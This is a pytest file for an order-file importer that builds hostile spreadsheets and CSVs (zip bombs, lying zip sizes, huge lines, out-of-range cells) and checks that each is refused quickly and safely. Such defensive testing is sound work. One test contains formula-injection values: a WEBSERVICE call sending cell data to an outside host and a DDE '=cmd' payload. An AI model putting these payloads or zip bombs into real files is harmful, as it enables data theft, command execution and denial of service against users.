"""Hostile table files: one clear sentence each, quickly, with little memory, and nothing half-imported."""

from __future__ import annotations

import os
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest
import xlsxwriter

from ticketdesk.domain.errors import DeskError
from ticketdesk.exchange.magic import MOST_BYTES
from ticketdesk.exchange.order_file import open_orders
from ticketdesk.exchange.sniff import MOST_ROWS
from ticketdesk.words.errors import sentence

MB = 1024 * 1024
HEAD = "订单编号,买家会员名,总金额\r\n"
ROW = '="3001000000000000017",竹风,12.80\r\n'
NAMES = ("订单编号", "总金额")


def long_line(path: Path) -> None:
    """A line of 64 MB below a good header."""
    with path.open("wb") as file:
        file.write((HEAD + ROW).encode())
        for _ in range(64):
            file.write(b"x" * MB)


def long_first_line(path: Path) -> None:
    """Nothing but one line of 64 MB."""
    path.write_bytes(b"x" * (64 * MB))


def long_json_line(path: Path) -> None:
    """An order of 64 MB in TicketDesk's own lines."""
    path.write_bytes(b'{"number": "300100", "remark": "' + b"x" * (64 * MB) + b'"}\n')


def heavy(path: Path) -> None:
    """A table of 300 MB (sparse: the disk holds only its beginning)."""
    with path.open("wb") as file:
        file.write((HEAD + ROW).encode())
        file.truncate(300 * MB)


def many_rows(path: Path) -> None:
    """One row more than are taken."""
    with path.open("w", encoding="utf-8", newline="") as file:
        file.write(HEAD)
        for block in range(0, MOST_ROWS + 1, 1_000):
            rows = range(block, min(block + 1_000, MOST_ROWS + 1))
            file.write("".join(f"3{at:015d},n,1\r\n" for at in rows))


def many_columns(path: Path) -> None:
    """A hundred thousand columns, the order number among them."""
    path.write_text("订单编号," + ",".join(f"c{at}" for at in range(100_000)) + "\r\n300100,1\r\n", encoding="utf-8")


def far_cell(path: Path) -> None:
    """Five kilobytes that ask for half a terabyte: one cell in the last corner of the sheet."""
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, NAMES)
        page.write_row(1, 0, ("3001000000000000017", 1))
        page.write(1_048_575, 16_383, "x")


SHEET = '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
FIRST_CELL = '<c r="A1"><v>1</v></c>'
UNPLACED = "<c/>" * 9_000 + "<c><v>1</v></c>"


def sheet_of(path: Path, rows: str) -> None:
    """A workbook whose first sheet has these rows, as they stand."""
    archive_with(path, "xl/worksheets/sheet1.xml", f"{SHEET}{rows}</sheetData></worksheet>".encode(), 1)


def cell_called(path: Path, name: str) -> None:
    """A sheet with a cell of that name, which no sheet can have: the reader counts it as a place millions away."""
    sheet_of(path, f'<row>{FIRST_CELL}<c r="{name}"><v>2</v></c></row>')


def archive_with(path: Path, entry: str, content: bytes, copies: int, *, claim: int | None = None) -> None:
    """A workbook with an entry that holds ``content`` so many times; ``claim`` is the size that its directory tells."""
    with xlsxwriter.Workbook(path) as book:
        book.add_worksheet().write_row(0, 0, NAMES)
    with zipfile.ZipFile(path) as old:
        rest = {name: old.read(name) for name in old.namelist()}
    path.unlink()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as new:
        for name, old_content in rest.items():
            if name != entry:
                new.writestr(name, old_content)
        with new.open(entry, "w", force_zip64=True) as file:
            for _ in range(copies):
                file.write(content)
    if claim is not None:
        _claim(path, entry, claim)


def _claim(path: Path, entry: str, size: int) -> None:
    """Write a false size into the directory of the archive."""
    content = bytearray(path.read_bytes())
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        name = content[at + 46 : at + 46 + struct.unpack_from("<H", content, at + 28)[0]]
        if bytes(name) == entry.encode():
            struct.pack_into("<I", content, at + 24, size)
        at = content.find(b"PK\x01\x02", at + 4)
    path.write_bytes(content)


def zip_bomb(path: Path) -> None:
    """A quarter of a megabyte that unpacks to more text than is held in memory."""
    archive_with(path, "xl/sharedStrings.xml", b" " * (32 * MB), 9)


def lying_zip(path: Path) -> None:
    """A sheet that says it is small and is not."""
    archive_with(path, "xl/worksheets/sheet1.xml", b" " * MB, 40, claim=100)


def binary_book(path: Path) -> None:
    """A binary workbook, which no back office writes."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("xl/workbook.bin", b"\0" * 100)


class Hostile:
    """A file, how it is refused, and in how many seconds at most (generous: machines are shared)."""

    def __init__(self, make: Callable[[Path], None], name: str, key: str, seconds: float = 15.0) -> None:
        self.make, self.name, self.key, self.seconds = make, name, key, seconds


FILES = (
    Hostile(long_line, "64 MB line.csv", "file_long_line", 20.0),
    Hostile(long_first_line, "one line.csv", "file_long_line"),
    Hostile(long_json_line, "one order.jsonl", "file_long_line"),
    Hostile(heavy, "300 MB.csv", "file_too_big", 1.0),
    Hostile(many_rows, "rows.csv", "file_too_many_rows", 60.0),
    Hostile(many_columns, "columns.csv", "file_too_many_columns"),
    Hostile(far_cell, "far.xlsx", "sheet_too_far"),
    Hostile(partial(cell_called, name="nullB9"), "column.xlsx", "sheet_too_far"),
    Hostile(partial(cell_called, name="B99999999999"), "row.xlsx", "sheet_too_far"),
    Hostile(partial(cell_called, name="B" * 51 + "9"), "wrapped.xlsx", "sheet_too_far"),
    Hostile(
        partial(sheet_of, rows=f'<row>{FIRST_CELL}<c t="n"r="AAAAAA2"><v>2</v></c></row>'),
        "close.xlsx",
        "sheet_too_far",
    ),
    Hostile(
        partial(sheet_of, rows=f'<row r="90000000">{FIRST_CELL}<c><v>2</v></c></row>'), "numbered.xlsx", "sheet_too_far"
    ),
    Hostile(partial(sheet_of, rows="<row/>" * 900_000 + f"<row>{UNPLACED}</row>"), "unplaced.xlsx", "sheet_too_far"),
    # Within what a sheet may span, but for three cells it would take 860 MB.
    Hostile(
        partial(sheet_of, rows=f'<row>{FIRST_CELL}</row><row r="1000000"><c r="AA1000000"><v>2</v></c></row>'),
        "sparse.xlsx",
        "sheet_too_far",
    ),
    Hostile(zip_bomb, "bomb.xlsx", "file_too_big"),
    Hostile(lying_zip, "lying.xlsx", "file_broken_sheet"),
    Hostile(binary_book, "book.xlsx", "file_foreign"),
)


@pytest.mark.parametrize("hostile", FILES, ids=lambda each: each.name)
def test_a_hostile_file_is_refused_in_one_sentence(tmp_path: Path, hostile: Hostile) -> None:
    path = tmp_path / hostile.name
    hostile.make(path)
    began = time.process_time()
    with pytest.raises(DeskError) as refused:
        open_orders(path)
    seconds = time.process_time() - began
    assert refused.value.key == hostile.key
    told = sentence(refused.value)
    assert told.startswith((hostile.name, "Line")) and "{" not in told and "\n" not in told
    assert seconds < hostile.seconds


def test_what_is_refused_for_its_length_is_never_in_memory(tmp_path: Path) -> None:
    path = tmp_path / "64 MB line.csv"
    long_line(path)
    tracemalloc.start()
    try:
        with pytest.raises(DeskError):
            open_orders(path)
        assert tracemalloc.get_traced_memory()[1] < 40 * MB
    finally:
        tracemalloc.stop()


def test_the_size_is_asked_before_anything_is_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "just.csv"
    path.write_text(HEAD + ROW, encoding="utf-8")
    size = path.stat().st_size
    monkeypatch.setattr("ticketdesk.exchange.magic.MOST_BYTES", size)
    assert open_orders(path).found.rows == 1
    monkeypatch.setattr("ticketdesk.exchange.magic.MOST_BYTES", size - 1)
    with pytest.raises(DeskError, match="file_too_big"):
        open_orders(path)
    assert MOST_BYTES == 256 * MB


def test_formulas_of_a_workbook_are_text_or_their_kept_result(tmp_path: Path) -> None:
    path = tmp_path / "formulas.xlsx"
    with xlsxwriter.Workbook(path) as book:
        page = book.add_worksheet()
        page.write_row(0, 0, ("订单编号", "买家会员名", "总金额"))
        page.write(1, 0, "300100000000003")
        page.write_formula(1, 1, '=WEBSERVICE("http://example.org/"&A1)', None, "竹风")
        page.write_formula(1, 2, "=SUM(1,2)", None, 3)
        page.write_string(2, 0, "300100000000004")
        page.write_string(2, 1, "=cmd|' /C calc'!A0")
        page.write_number(2, 2, 4)
    first, second = open_orders(path).items()
    assert (first.buyer_nick, first.total_cents) == ("竹风", 300)
    assert (second.buyer_nick, second.total_cents) == ("=cmd|' /C calc'!A0", 400)


def test_a_fifo_and_a_device_are_no_files_to_wait_for(tmp_path: Path) -> None:
    if not hasattr(os, "mkfifo"):
        pytest.skip("this system has no FIFOs")
    path = tmp_path / "orders.csv"
    os.mkfifo(path)
    with pytest.raises(DeskError) as refused:
        open_orders(path)
    assert refused.value.key == "file_unreadable" and sentence(refused.value)


@pytest.mark.parametrize("name", ["a\0b.csv", "x" * 400 + ".csv", "\ud800.csv"])
def test_a_name_that_no_disk_takes_is_a_missing_file(tmp_path: Path, name: str) -> None:
    with pytest.raises(DeskError) as refused:
        open_orders(tmp_path / name)
    assert refused.value.key in ("file_missing", "file_unreadable") and sentence(refused.value)
